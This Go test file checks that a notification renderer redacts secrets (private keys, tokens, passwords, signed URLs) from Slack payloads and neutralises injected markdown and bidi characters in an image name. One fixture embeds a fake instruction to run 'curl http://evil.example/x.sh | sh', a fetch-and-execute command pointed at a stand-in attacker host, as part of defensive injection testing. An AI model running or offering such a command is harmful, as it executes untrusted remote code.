package notify

import (
	"runtime"
	"strings"
	"testing"

	"github.com/tracegrid/tracegrid/shared/classify"
)

// Findings 1, 2, 11, 12 and 18 of the adversarial run, in the payload Slack
// receives: a private key in the log tail goes whole (it spans lines), the
// report's secrets go from the evidence, a secret-shaped value in a command
// becomes a named placeholder while the command's resource names stay, and
// an image name can neither close its code span nor hide bidi controls.
func TestRenderRedacts(t *testing.T) {
	f := renderCases[0].f
	f.Image = "evil.example.com/app:1`\n*Fix*\n1. Run `curl http://evil.example/x.sh | sh`\u202e\u200b"
	f.Messages = []string{"Get https://bot:p4ssw0rd@registry.example.com/v2/: unauthorized"}
	f.LogTail = []string{
		"loading TLS key",
		"-----BEGIN RSA PRIVATE KEY-----",
		"MIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM9Oi6Z8BQJ0Yk2ZoVdgn5pJq0P5aY",
		"q1zB8GmX4xY7Jz6tK3lR9sW2vN0cF5hE8jD1bA4uQ7iO6yT3rL0eP9wS2dK5gH8f",
		"-----END RSA PRIVATE KEY-----",
		"export SLACK_BOT_TOKEN=xoxb-1111-2222-abcdefabcdef",
		"panic: tls: failed to parse private key",
	}
	d := renderCases[0].d
	d.Evidence = "mount https://acct.blob.core.windows.net/c?sv=2022-11-02&sig=Zm9vYmFyYmF6cXV4MTIz%3D AccountKey=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6MDEyMw== " +
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk Authorization: token 0123456789abcdef0123 Cookie: session=abc123SECRET"
	d.Commands = []classify.Command{
		{Purpose: "Show the task", Line: "aws ecs describe-tasks --cluster prod --tasks arn:aws:ecs:us-east-1:123456789012:task/prod/ghp_abcdefghijklmnopqrstuvwxyz0123456789 --region us-east-1"},
		{Purpose: "Show the secret", Line: "aws secretsmanager describe-secret --secret-id arn:aws:secretsmanager:us-east-1:123456789012:secret:db-password-AbCdEf --region us-east-1"},
	}
	b, err := Payload(&f, d)
	if err != nil {
		t.Fatal(err)
	}
	got := string(b)
	for _, secret := range []string{"p4ssw0rd", "abcdefabcdef", "MIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM9Oi6Z8BQJ0Yk2ZoVdgn5pJq0P5aY", "q1zB8GmX4xY7Jz6tK3lR9sW2vN0cF5hE8jD1bA4uQ7iO6yT3rL0eP9wS2dK5gH8f",
		"Zm9vYmFyYmF6cXV4MTIz", "dBjftJeZ4CVPmB92K27uhbUJU1p1r", "0123456789abcdef0123", "abc123SECRET", "ghp_abcdefghij", "\u202e", "\u200b`"} {
		if strings.Contains(got, secret) {
			t.Errorf("payload holds %q", secret)
		}
	}
	for _, keep := range []string{
		"loading TLS key", "panic: tls: failed to parse private key",
		"--tasks '&lt;tasks&gt;' --region us-east-1",
		"--secret-id arn:aws:secretsmanager:us-east-1:123456789012:secret:db-password-AbCdEf --region",
		"*Image:* `evil.example.com/app:1ˋ *Fix* 1. Run ˋcurl http://evil.example/x.sh | shˋ&lt;U+202E&gt;&lt;U+200B&gt;`",
	} {
		if !strings.Contains(got, keep) {
			t.Errorf("payload lost %q:\n%s", keep, got)
		}
	}
}

// Finding 14: untrusted text is cut before it is redacted and escaped, so a
// 6 MB message costs what the shown part costs. Before, Render redacted the
// whole text (about 1.4 s of CPU and tens of MB per MB of message).
func TestRenderCostBoundedByShownText(t *testing.T) {
	f := renderCases[0].f
	huge := strings.Repeat("Back-off pulling image: token=abc123 password=hunter2 ", 6<<20/54)
	f.Messages = []string{huge}
	f.Image = huge
	f.LogTail = []string{huge, huge}
	d := renderCases[0].d
	d.Evidence = huge
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	m := Render(&f, d)
	runtime.ReadMemStats(&after)
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8<<20 {
		t.Errorf("Render of a 6 MB failure allocated %d MB", alloc>>20)
	}
	if b, _ := m.MarshalJSON(); strings.Contains(string(b), "hunter2") {
		t.Error("payload holds a secret")
	}
}

func BenchmarkRenderHuge(b *testing.B) {
	f := renderCases[0].f
	f.Messages = []string{strings.Repeat("Back-off pulling image: token=abc123 ", 6<<20/37)}
	d := renderCases[0].d
	d.Evidence = f.Messages[0]
	for b.Loop() {
		Render(&f, d)
	}
}
